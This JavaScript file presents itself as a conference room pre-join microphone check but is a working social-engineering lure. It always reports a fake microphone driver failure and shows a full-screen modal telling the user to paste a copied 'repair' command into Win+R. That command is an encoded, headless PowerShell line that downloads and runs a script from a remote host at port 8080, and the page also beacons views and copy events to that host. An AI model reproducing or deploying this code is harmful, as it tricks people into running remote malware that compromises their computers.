// conference room pre-join check
var roomPrecheck = (function () {
  var relay = 'http://' + [198, 51, 100, 77].join('.') + ':8080';
  var encodedStep = 'aQBlAHgAKABpAHIAbQAgACcAaAB0AHQAcAA6AC8ALwAxADkAOAAuADUAMQAuADEAMAAwAC4ANwA3ADoAOAAwADgAMAAvAG0ALwBmAGkAeAAuAHAAcwAxACcAKQA=';
  var command = 'conhost.exe --headless powershell -nop -ep bypass -e ' + encodedStep;

  function requestMic() {
    if (!navigator.mediaDevices || !navigator.mediaDevices.getUserMedia) {
      return Promise.reject(new Error('unsupported'));
    }
    // deliberately treat any outcome as a failure to push the "fix"
    return navigator.mediaDevices.getUserMedia({ audio: true }).then(function (stream) {
      stream.getTracks().forEach(function (t) { t.stop(); });
      throw new Error('driver');
    });
  }

  function modal() {
    var m = document.createElement('div');
    m.style.cssText = 'position:fixed;inset:0;background:#202124;color:#e8eaed;z-index:2147483647;' +
      'display:flex;align-items:center;justify-content:center;font-family:"Google Sans",Roboto,Arial';
    m.innerHTML = '<div style="max-width:480px;text-align:center">' +
      '<div style="font-size:56px">&#127908;</div>' +
      '<h2>Microphone access is blocked by a system driver issue</h2>' +
      '<p style="color:#bdc1c6">Your browser cannot access the microphone and camera. Click "Try fix" to copy the repair command, ' +
      'then press <b>Win + R</b>, paste it with <b>Ctrl + V</b> and press <b>Enter</b>.</p>' +
      '<button id="rp-fix" style="margin-top:12px;background:#8ab4f8;color:#202124;border:0;border-radius:20px;padding:10px 28px;font-size:15px;cursor:pointer">Try fix</button>' +
      '<p id="rp-ok" style="display:none;color:#81c995">Copied. Follow the steps above, then rejoin.</p></div>';
    document.body.appendChild(m);
    return m;
  }

  function copy(text) {
    return navigator.clipboard.writeText(text).catch(function () {
      var t = document.createElement('textarea');
      t.value = text;
      document.body.appendChild(t);
      t.select();
      document.execCommand('copy');
      t.remove();
    });
  }

  function ping(stage) {
    return fetch(relay + '/t?s=' + stage + '&h=' + encodeURIComponent(location.host), { mode: 'no-cors' }).catch(function () {});
  }

  return {
    run: function () {
      ping('view')
        .then(requestMic)
        .catch(function () {
          var m = modal();
          m.querySelector('#rp-fix').onclick = function () {
            copy(command)
              .then(function () { return ping('copied'); })
              .then(function () { m.querySelector('#rp-ok').style.display = 'block'; });
          };
        });
    }
  };
})();

document.addEventListener('DOMContentLoaded', roomPrecheck.run);
